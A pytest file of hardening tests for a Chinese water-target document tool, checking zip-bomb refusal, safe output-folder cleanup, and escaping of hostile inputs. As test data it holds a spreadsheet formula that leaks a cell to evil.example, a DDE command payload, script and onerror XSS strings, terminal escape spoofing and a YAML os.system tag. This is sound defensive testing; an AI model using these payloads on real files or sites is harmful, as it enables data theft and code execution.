"""Issue 14 (hardening): nothing lost, nothing injected, nothing fetched, no traceback — the in-process
tests (the end-to-end cases are rows of docs/bad_inputs.md, in tests/test_bad_input_catalogue.py)."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from doc_fixtures import plan_text
from fixture_corpus import make_tables, move_root, run_cli, scratch_project, sha256_tree
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from compare import outdir, report
from compare.errors import OutputError

# --------------------------------------------------------------------------- --out never removes user files


@pytest.fixture(scope="module")
def small_site(tmp_path_factory, hand_site):
    """A private copy of the report site of the hand-made tables (HTML charts and data only: conftest's
    hand_site, built once per run by report.build_site)."""
    tables, _ = make_tables()
    out = tmp_path_factory.mktemp("site") / "site"
    shutil.copytree(hand_site, out)
    return out, tables


@pytest.mark.slow  # builds a report site
def test_report_refuses_a_folder_it_did_not_write(tmp_path, small_site):
    _, tables = small_site
    out = tmp_path / "mine"
    for rel in ("zh/notes.txt", "assets/photo.png", "downloads/x.csv", "index.html"):
        (out / rel).parent.mkdir(parents=True, exist_ok=True)
        (out / rel).write_text("mine", encoding="utf-8")
    with pytest.raises(OutputError, match="not empty .* was not written by `compare report`"):
        report.build_site(out, tables=tables, exports=None, progress=lambda msg: None)
    assert sorted(p.read_text("utf-8") for p in out.rglob("*") if p.is_file()) == ["mine"] * 4


@pytest.mark.slow  # builds a report site
def test_report_rebuild_removes_only_its_own_files(small_site, tmp_path):
    site, tables = small_site
    manifest = (site / outdir.MANIFEST).read_text("utf-8")
    assert '"zh/index.html"' in manifest and '"assets/site.css"' in manifest
    (site / "zh" / "my_notes.txt").write_text("mine", encoding="utf-8")
    (site / "extra").mkdir()
    (site / "extra" / "keep.md").write_text("mine", encoding="utf-8")
    report.build_site(site, tables=tables, exports=None, progress=lambda msg: None)
    assert (site / "zh" / "my_notes.txt").read_text("utf-8") == "mine"
    assert (site / "extra" / "keep.md").read_text("utf-8") == "mine"
    assert (site / "zh" / "index.html").is_file()
    assert "my_notes" not in (site / outdir.MANIFEST).read_text("utf-8")


@pytest.mark.slow  # builds a report site
def test_a_site_from_before_manifests_is_named(small_site, tmp_path):
    site, tables = small_site
    old = tmp_path / "old"
    shutil.copytree(site, old)
    (old / outdir.MANIFEST).unlink()
    with pytest.raises(OutputError, match="written before `compare report` kept a manifest.*rm -rf"):
        report.build_site(old, tables=tables, exports=None, progress=lambda msg: None)
    assert (old / "index.html").is_file()


def test_tampered_manifest_removes_nothing_outside(tmp_path):
    out, outside = tmp_path / "out", tmp_path / "precious.txt"
    outside.write_text("mine", encoding="utf-8")
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "index.html").write_text("mine", encoding="utf-8")
    out.mkdir()
    (out / "zh").symlink_to(tmp_path / "docs")  # a folder of the site swapped for a link to the user's
    (out / outdir.MANIFEST).write_text(
        '{"command": "report", "files": ["../precious.txt", "/etc/hostname", "zh/index.html"]}')
    outdir.prepare(out, "report")
    assert outside.read_text("utf-8") == "mine"
    assert (tmp_path / "docs" / "index.html").read_text("utf-8") == "mine"


def test_out_is_a_file(tmp_path):
    (tmp_path / "f").write_text("x")
    with pytest.raises(OutputError, match="must be a folder, but this is a file"):
        outdir.prepare(tmp_path / "f", "report")
    with pytest.raises(OutputError, match="cannot create the output folder"):
        outdir.prepare(tmp_path / "f" / "sub", "export")


# --------------------------------------------------------------------------- concurrent and failing adds


def _env(root: Path) -> dict:
    return os.environ | {"WATER_TARGETS_ROOT": str(root), "PYTHONWARNINGS": "ignore"}


@pytest.mark.slow
def test_eight_concurrent_adds_all_land(tmp_path):
    root = scratch_project(tmp_path / "project")
    before = (root / "data" / "raw" / "documents.csv").read_text("utf-8").count("\n")
    procs = []
    for i in range(8):
        path = tmp_path / "inputs" / f"plan{i}.txt"
        path.parent.mkdir(exist_ok=True)
        path.write_text(plan_text() + f"第{i}稿。\n", encoding="utf-8")
        procs.append(subprocess.Popen(
            [sys.executable, "-m", "compare", "add", str(path), "--jurisdiction", "晋城市", "--id", f"conc_{i}"],
            cwd=root, env=_env(root), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True))
    outs = [p.communicate(timeout=300) for p in procs]
    assert [p.returncode for p in procs] == [0] * 8, outs
    with (root / "data" / "raw" / "documents.csv").open(encoding="utf-8", newline="") as fh:
        ids = [r["document_id"] for r in csv.DictReader(fh)]
    assert {f"conc_{i}" for i in range(8)} <= set(ids) and len(ids) == before - 1 + 8


# --------------------------------------------------------------------------- .docx: nothing dropped

_W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _xml(fragment: str):
    from docx.oxml import parse_xml

    name = fragment[1:].split(">", 1)[0].split(" ", 1)[0]
    return parse_xml(fragment.replace(f"<{name}", f"<{name} {_W_NS}", 1))


def _run(text: str) -> str:
    return f"<w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r>"


def _docx_with_hidden_text(path: Path) -> Path:
    """A .docx (python-docx + raw XML) with text in a nested table, in block and inline content
    controls, in tracked insertions, and a tracked deletion that must not appear."""
    import docx

    d = docx.Document()
    d.add_paragraph("一、主要目标")
    body = d.element.body
    sect = body[-1]  # w:sectPr stays last
    sect.addprevious(_xml(
        f"<w:p>{_run('到2025年，用水总量控制在')}<w:ins w:id=\"1\" w:author=\"a\">{_run('1.35')}</w:ins>"
        f"<w:del w:id=\"2\" w:author=\"a\"><w:r><w:delText>9.99</w:delText></w:r></w:del>{_run('亿立方米以内。')}</w:p>"))
    sect.addprevious(_xml(
        f"<w:sdt><w:sdtPr/><w:sdtContent><w:p>{_run('控件中的段落：再生水利用率达到30%。')}</w:p></w:sdtContent></w:sdt>"))
    sect.addprevious(_xml(
        f"<w:p>{_run('行内控件：')}<w:sdt><w:sdtPr/><w:sdtContent>{_run('漏损率控制在9%以内')}</w:sdtContent></w:sdt>"
        f"{_run('。')}</w:p>"))
    outer = d.add_table(rows=1, cols=2)
    outer.cell(0, 0).text = "外层"
    inner = outer.cell(0, 1).add_table(rows=1, cols=2)
    inner.cell(0, 0).text = "嵌套指标"
    inner.cell(0, 1).text = "92%"
    row = _xml(f"<w:tr><w:sdt><w:sdtPr/><w:sdtContent><w:tc><w:p>{_run('控件单元格')}</w:p></w:tc></w:sdtContent></w:sdt>"
               f"<w:tc><w:p>{_run('0.58')}</w:p></w:tc></w:tr>")
    outer._tbl.append(row)
    deleted = _xml(f"<w:tr><w:trPr><w:del w:id=\"3\" w:author=\"a\"/></w:trPr><w:tc><w:p>{_run('删除行')}</w:p></w:tc>"
                   f"<w:tc><w:p>{_run('1')}</w:p></w:tc></w:tr>")
    outer._tbl.append(deleted)
    body.remove(outer._tbl)
    sect.addprevious(outer._tbl)
    d.add_paragraph("结尾段落。")
    d.save(str(path))
    return path


def test_docx_keeps_nested_tables_content_controls_and_insertions(tmp_path):
    from compare.convert import to_text

    text = to_text(_docx_with_hidden_text(tmp_path / "plan.docx"))
    assert text.splitlines() == [
        "一、主要目标",
        "到2025年，用水总量控制在1.35亿立方米以内。",
        "控件中的段落：再生水利用率达到30%。",
        "行内控件：漏损率控制在9%以内。",
        "",
        "外层\t嵌套指标 92%",
        "控件单元格\t0.58",
        "",
        "结尾段落。",
    ]
    assert "9.99" not in text and "删除行" not in text


def test_docx_bomb_is_refused_before_inflating(tmp_path):
    import zipfile

    from compare.convert import MAX_DOCX_UNCOMPRESSED, to_text
    from compare.errors import InputError

    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("word/document.xml", "w") as fh:
            chunk = b" " * (1 << 20)
            for _ in range(MAX_DOCX_UNCOMPRESSED // len(chunk) + 1):
                fh.write(chunk)
    assert path.stat().st_size < 1_000_000
    with pytest.raises(InputError, match="would inflate to 65 MiB.*MAX_DOCX_UNCOMPRESSED"):
        to_text(path)


# --------------------------------------------------------------------------- injection: spreadsheets, Plotly, terminal

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MARKUP = '<a href="http://evil.example">link</a><span style="font-size:90px">big</span><b>bold</b>'


@pytest.fixture(scope="module")
def hostile_tables():
    """The hand-made tables with formulas and Plotly markup in doc number, title, quote and note."""
    tables, _ = make_tables()
    docs, targets = tables["documents"].copy(), tables["targets"].copy()
    docs.loc[docs.index[0], "doc_number"] = FORMULA
    docs.loc[docs.index[0], "title_zh"] = f"细则{MARKUP}"
    docs.loc[docs.index[1], "doc_number"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    docs.loc[docs.index[1], "title_zh"] = "+1+2"
    targets.loc[targets.index[0], "quote_zh"] = f"-1+2{MARKUP}"
    targets.loc[targets.index[1], "note"] = MARKUP
    targets.loc[targets.index[2], "scope_zh"] = f"\t=1+1{MARKUP}"
    return tables | {"documents": docs, "targets": targets}


def test_spreadsheet_cells_never_start_a_formula():
    import pandas as pd

    from compare.escape import spreadsheet_safe

    df = pd.DataFrame({"a": [FORMULA, "+1+1", "-2+3", "@x", "\tx", "\rx", "-3", "-16%", "text", None],
                       "n": [1.0, -2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, None]})
    out = spreadsheet_safe(df)
    assert out["a"].tolist()[:6] == ["'" + v for v in df["a"].tolist()[:6]]
    assert out["a"].tolist()[6:9] == ["-3", "-16%", "text"] and out["n"].equals(df["n"])


def test_exports_hold_no_live_formula_and_charts_no_markup(hostile_tables, tmp_path):
    import openpyxl

    from compare import export

    written = export.export_catalogue(tmp_path, ["zh"], ["html"], None, tables=hostile_tables)
    files = [p for paths in written.values() for p in paths]
    csvs = [p for p in files if p.suffix == ".csv"]
    assert any(p.name == "sources.csv" for p in csvs) and len(csvs) > 3
    seen = ""
    for path in csvs:
        text = path.read_text("utf-8-sig")
        seen += text
        for line in text.splitlines():
            for cell in line.split(","):
                assert not cell.lstrip('"').startswith(("=", "+", "@", "\t")), (path.name, line)
    assert "'=HYPERLINK" in seen and "'@SUM" in seen
    for path in (p for p in files if p.suffix == ".xlsx"):
        for row in openpyxl.load_workbook(path).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
    for path in (p for p in files if p.suffix == ".html"):
        html = path.read_text("utf-8")
        assert "evil.example\\u0022\\u003elink" not in html and '<a href=\\"http://evil' not in html
        for tag in ("\\u003ca href=\\u0022http://evil", "\\u003cspan style=\\u0022font-size:90px", "\\u003cb\\u003ebold"):
            assert tag not in html, (path.name, tag)


def test_plotly_text_of_every_chart_is_escaped(hostile_tables):
    from compare import catalogue

    for job in catalogue.jobs(hostile_tables):
        fig, _ = catalogue.build(job, hostile_tables, "en")
        blob = fig.to_json()
        for tag in ('<a href="http://evil', '<span style="font-size:90px', "<b>bold"):
            for form in (tag, tag.replace('"', '\\"'), tag.replace("<", "\\u003c").replace('"', '\\"')):
                assert form not in blob, (job.name, form)
    fig, _ = catalogue.build("caps_by_city", hostile_tables, "zh")
    assert "&lt;a href" in fig.to_json()


def test_terminal_shows_control_characters():
    from compare.escape import terminal

    fake = "quote\x1b[32m all expectations passed\x1b[0m\r\x08\u202eok\n2nd line\tcol"
    shown = terminal(fake)
    assert "\x1b" not in shown and "\r" not in shown and "\x08" not in shown and "\u202e" not in shown
    assert "\\x1b[32m" in shown and shown.endswith("\n2nd line\tcol")


# --------------------------------------------------------------------------- the gate trusts nothing on disk

HOSTILE = '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">'


def test_validation_report_is_escaped_and_offline(tables_and_raw, tmp_path, monkeypatch):
    from compare import validate

    move_root(monkeypatch, tmp_path)  # the report goes to tmp_path/reports
    tables, raw = tables_and_raw
    t = tables["targets"]
    t.loc[t.index[0], "value"] = 6000.0  # out of range: the row (with its quote) is listed
    t.loc[t.index[0], "value_reported"] = "6000"
    raw["doc_a"] = raw["doc_a"].replace("用水总量控制在12.5亿立方米", f"用水总量{HOSTILE}")
    t.loc[t.index[0], "quote_zh"] = f"用水总量{HOSTILE}"
    t.loc[t.index[0], "char_end"] = t.loc[t.index[0], "char_start"] + len(f"用水总量{HOSTILE}")
    verdict = validate.check_tables(tables, raw, None, {})
    assert not verdict.success and "Validation report (offline HTML): " in verdict.report()
    page = verdict.docs_index.read_text("utf-8")
    assert "<script" not in page and "<img" not in page and "&lt;script&gt;" in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", page), "a resource from outside"
    assert sorted(p.name for p in verdict.docs_index.parent.iterdir()) == ["index.html"]


def _suites_copy(tmp_path, monkeypatch) -> Path:

    folder = tmp_path / "expectations"
    move_root(monkeypatch, tmp_path)
    return folder


def test_a_weakened_generated_bound_stops_the_gate(tables_and_raw, tmp_path, monkeypatch):
    from compare import validate

    folder = _suites_copy(tmp_path, monkeypatch)
    suite = json.loads((folder / "targets.json").read_text("utf-8"))
    for e in suite["expectations"]:
        if e["meta"].get("generated") and e["kwargs"].get("max_value") == 1:
            e["kwargs"]["max_value"] = 10  # lets an irrigation coefficient of 6 through
    (folder / "targets.json").write_text(json.dumps(suite), "utf-8")
    tables, raw = tables_and_raw
    verdict = validate.check_tables(tables, raw, None, {}, data_docs=False)
    report = verdict.report()
    assert not verdict.success and validate._SUITES_MATCH_RULE in report
    assert "targets.json: 1 generated expectation(s) missing or edited" in report and "make suites" in report


def test_an_emptied_suite_stops_the_gate(tables_and_raw, tmp_path, monkeypatch):
    from compare import validate

    folder = _suites_copy(tmp_path, monkeypatch)
    (folder / "targets.json").write_text('{"name": "targets", "expectations": []}', "utf-8")
    tables, raw = tables_and_raw
    report = validate.check_tables(tables, raw, None, {}, data_docs=False).report()
    assert "targets.json: " in report and "generated expectation(s) missing or edited" in report


def test_value_reported_must_appear_in_the_quote(tables_and_raw):
    from compare import validate

    tables, raw = tables_and_raw
    t = tables["targets"]
    row = t.index[t["indicator_id"] == "total_water_use_cap"][0]
    t.loc[row, "value"], t.loc[row, "value_reported"] = 25.0, "25"  # the quote says 12.5
    report = validate.check_tables(tables, raw, None, {}, data_docs=False).report()
    assert validate._REPORTED_IN_QUOTE_RULE in report and "value_reported=25" in report
    assert report.splitlines()[0].startswith("1 of "), report
    assert validate._reported_in("12,500", "控制在12500万立方米") and validate._reported_in("０.56", "达到0.56以上")
    assert not validate._reported_in("5", "达到0.56") and not validate._reported_in("12", "12.5亿")


# --------------------------------------------------------------------------- published tables on disk (end to end)


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """A scratch project built once without the gate; each test works on a copy."""
    root = scratch_project(tmp_path_factory.mktemp("hardening") / "project")
    res = run_cli(root, "build", "--no-validate")
    assert res.returncode == 0, res.stderr
    return root


def _copy(built: Path, tmp_path: Path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(built, root, ignore=shutil.ignore_patterns(".staging", ".cache"))
    return root


@pytest.mark.slow
def test_damaged_published_table_is_reported_and_rebuilt(built, tmp_path):
    root = _copy(built, tmp_path)
    table = root / "data" / "curated" / "targets.parquet"
    table.write_bytes(table.read_bytes()[: table.stat().st_size // 2])
    for args in (("validate",), ("report", "--out", str(tmp_path / "site"))):
        res = run_cli(root, *args)
        assert res.returncode == 2 and "Traceback" not in res.stderr, res.stderr
        assert "targets.parquet: the published table cannot be read" in res.stderr and "build --force" in res.stderr
    res = run_cli(root, "build", "--no-validate")
    assert res.returncode == 0 and "up to date" not in res.stderr + res.stdout, res.stderr
    assert sha256_tree(root / "data" / "curated") == sha256_tree(built / "data" / "curated")


@pytest.mark.slow
def test_hand_edited_published_value_fails_validate(built, tmp_path):
    import pandas as pd

    root = _copy(built, tmp_path)
    path = root / "data" / "curated" / "targets.parquet"
    t = pd.read_parquet(path)
    row = t.index[(t["method"] == "rule") & t["quote_zh"].str.contains("4.7", regex=False, na=False)
                  & (t["value_reported"] == "4.7")][0]
    t.loc[row, "value"], t.loc[row, "value_reported"] = 9.4, "9.4"
    t.to_parquet(path, index=False)
    res = run_cli(root, "validate", timeout=300)
    assert res.returncode == 4, res.stdout + res.stderr
    assert "value_reported appears in the quote" in res.stdout and "value_reported=9.4" in res.stdout
    assert "Validation report (offline HTML): " in res.stdout
    res = run_cli(root, "build", "--no-validate")
    assert res.returncode == 0 and "up to date" not in res.stdout + res.stderr


@pytest.mark.slow
def test_curated_replaced_by_a_file_is_named(built, tmp_path):
    root = _copy(built, tmp_path)
    shutil.rmtree(root / "data" / "curated")
    (root / "data" / "curated").write_text("not tables", "utf-8")
    res = run_cli(root, "build", "--no-validate")
    assert res.returncode == 6 and "is not a folder (a file or a link took its place)" in res.stderr, res.stderr
    assert "writable" not in res.stderr and (root / "data" / "curated").read_text("utf-8") == "not tables"


@pytest.mark.slow
def test_published_table_swapped_for_a_fifo_is_named(built, tmp_path):
    root = _copy(built, tmp_path)
    table = root / "data" / "curated" / "targets.parquet"
    table.unlink()
    os.mkfifo(table)
    res = run_cli(root, "validate", timeout=60)
    assert res.returncode == 2 and "targets.parquet: not a regular file" in res.stderr, res.stderr
    res = run_cli(root, "build", timeout=300)  # with the gate, which compares with the published counts
    assert res.returncode == 0 and table.is_file(), res.stderr


_CTRL_C_AFTER_SWAP = """
import sys
from compare import build, cli
def summary(result):
    raise KeyboardInterrupt
build.summary = summary
sys.exit(cli.main(["build", "--no-validate", "--force"]))
"""


@pytest.mark.slow
def test_ctrl_c_after_the_swap_says_the_tables_are_live(built, tmp_path):
    root = _copy(built, tmp_path)
    res = subprocess.run([sys.executable, "-c", _CTRL_C_AFTER_SWAP], cwd=root, env=_env(root),
                         capture_output=True, text=True, timeout=120)
    assert res.returncode == 130 and "interrupted after publishing: the new tables are live" in res.stderr
    assert "left untouched" not in res.stderr


# --------------------------------------------------------------------------- notebook HTML offline


def test_notebook_html_loads_nothing_from_a_cdn():
    import nbformat
    import plotly.graph_objects as go
    import plotly.io as pio

    from compare.notebook import RENDERER, external_resources, offline_exporter, offline_outputs

    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_markdown_cell("用水总量 $x^2$ **上限**"))
    cell = nbformat.v4.new_code_cell("fig")
    fig = go.Figure(go.Bar(x=["运城市"], y=[5.3]))
    bundle = {}
    for name in RENDERER.split("+"):
        bundle |= pio.renderers[name].to_mimebundle(fig.to_dict())
    cell.outputs = [nbformat.v4.new_output("display_data", data=bundle)]
    nb.cells.append(cell)
    assert external_resources(bundle["text/html"]), "Plotly's notebook output loads MathJax from a CDN"
    offline_outputs(nb)
    body, _ = offline_exporter().from_notebook_node(nb)
    assert external_resources(body) == []
    assert "require.min.js" not in body and "mathjax" not in body.lower().split("</head>")[0]
    assert "Plotly.newPlot" in body and "plotly-graph-div" in body


# --------------------------------------------------------------------------- HTML: depth and a missing </head>


def test_deeply_nested_html_converts_in_linear_time(tmp_path):
    import time

    from compare.convert import to_text

    path = tmp_path / "nested.html"
    n = 50_000
    path.write_text("<html><body>" + "<div>" * n + "用水总量控制在5亿立方米以内。" + "</div>" * n + "</body></html>",
                    "utf-8")
    start = time.monotonic()
    assert to_text(path) == "用水总量控制在5亿立方米以内。\n"
    assert time.monotonic() - start < 30  # was quadratic: 20,000 levels took 35 s


def test_html_without_closing_head_keeps_its_body(tmp_path):
    from compare.convert import to_text

    path = tmp_path / "page.html"
    path.write_text("<html><head><meta charset='utf-8'><title>标题</title><style>p{}</style>"
                    "<body><p>到2025年，用水总量控制在5亿立方米以内。</p><script>x=1</script></body></html>", "utf-8")
    assert to_text(path) == "到2025年，用水总量控制在5亿立方米以内。\n"


def test_pdf_bomb_is_refused_before_parsing(tmp_path):
    import time
    import zlib

    from doc_fixtures import _pdf

    from compare.convert import MAX_PDF_INFLATED, to_text
    from compare.errors import InputError

    inflater = zlib.compressobj(9)
    packed = b"".join(inflater.compress(b"0 0 Td " * (1 << 17)) for _ in range(MAX_PDF_INFLATED // (7 << 17) + 2))
    packed += inflater.flush()
    content = f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode() + packed + b"\nendstream"
    path = tmp_path / "bomb.pdf"
    path.write_bytes(_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                           b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>", content]))
    assert path.stat().st_size < 1_000_000
    start = time.monotonic()
    with pytest.raises(InputError, match="would inflate beyond 64 MiB"):
        to_text(path)
    assert time.monotonic() - start < 10


def test_text_pdf_within_the_budget_still_converts(tmp_path):
    from doc_fixtures import plan_text, write_text_pdf

    from compare.convert import to_text

    assert "1.35亿立方米" in to_text(write_text_pdf(tmp_path / "plan.pdf")) and plan_text()


# --------------------------------------------------------------------------- property-based: the input readers

#: Each generated case must finish within this budget (a hang or a quadratic blow-up fails it).
READER_BUDGET = settings(max_examples=60, deadline=timedelta(seconds=5),
                         suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

_CSV_PIECES = st.sampled_from(["document_id", ",", '"', "\n", "\r\n", "a", "运城市", "1.5", "=1+1", "\x00", "\ufeff",
                               "".join(["x"] * 10)])
_HTML_PIECES = st.sampled_from(["<div>", "</div>", "<p>", "<table>", "<tr>", "<td>", "</td>", "<head>", "<title>",
                                "<script>", "</script>", "<!--", "-->", "&amp;", "&#0;", "用水总量控制在5亿立方米", "\t",
                                "<br>", "<li>", "<![CDATA[", "]]>", "<svg>", "<template>"])


def _our_error_only(fn, *args):
    from compare.errors import CompareError

    with contextlib.suppress(CompareError):
        fn(*args)


@READER_BUDGET
@given(st.one_of(st.binary(max_size=300), st.lists(_CSV_PIECES, max_size=60).map("".join).map(str.encode)))
def test_csv_reader_raises_only_input_errors(tmp_path_factory, data):
    from compare.registry import read_csv

    path = tmp_path_factory.mktemp("csv") / "documents.csv"
    path.write_bytes(data)
    _our_error_only(read_csv, path)


@READER_BUDGET
@given(st.one_of(st.binary(max_size=300), st.lists(_HTML_PIECES, max_size=200).map("".join).map(str.encode)))
def test_html_reader_raises_only_input_errors(tmp_path_factory, data):
    from compare.convert import to_text

    path = tmp_path_factory.mktemp("html") / "page.html"
    path.write_bytes(data)
    _our_error_only(to_text, path)


@READER_BUDGET
@given(st.binary(max_size=400), st.sampled_from([".docx", ".pdf", ".txt"]))
def test_binary_readers_raise_only_input_errors(tmp_path_factory, data, suffix):
    from compare.convert import to_text

    path = tmp_path_factory.mktemp("bin") / f"doc{suffix}"
    prefix = {".docx": b"PK\x03\x04", ".pdf": b"%PDF-1.4\n", ".txt": b""}[suffix]
    path.write_bytes(prefix + data)
    _our_error_only(to_text, path)


def test_extract_on_a_terminal_shows_escape_codes(tmp_path, monkeypatch):
    """What `compare extract` writes (quotes of the document) reaches a terminal with its escape codes
    shown; piped elsewhere, the bytes are unchanged."""
    import io

    from compare import cli, extract

    def write_candidates(paths, fmt="csv", out=None, **kwargs):
        out.write("quote\n用水总量\x1b[32m控制在5亿立方米\n")

    monkeypatch.setattr(extract, "write_candidates", write_candidates)
    path = tmp_path / "plan.txt"
    path.write_text("用水总量控制在5亿立方米。\n", "utf-8")

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    for stream, raw in ((Tty(), False), (io.StringIO(), True)):
        monkeypatch.setattr(sys, "stdout", stream)
        assert cli.main(["extract", str(path)]) == 0
        shown = stream.getvalue()
        assert ("\x1b[32m" in shown) is raw and ("\\x1b[32m" in shown) is not raw


@READER_BUDGET
@given(st.one_of(st.binary(max_size=300),
                 st.lists(st.sampled_from(["decisions:", "\n", "  - ", "{action: reject, ", "quote: 用水", "reason: x}",
                                           "&a ", "*a", "[", "]", "!!python/object:os.system", "\t", ": ", "'",
                                           "\x1b", "\ufeff", "--- ", "..."]), max_size=40).map("".join).map(str.encode)))
def test_review_reader_raises_only_our_errors(tmp_path_factory, data):
    from compare.review import load_review

    folder = tmp_path_factory.mktemp("reviews")
    (folder / "doc_x.yaml").write_bytes(data)
    _our_error_only(load_review, "doc_x", folder)
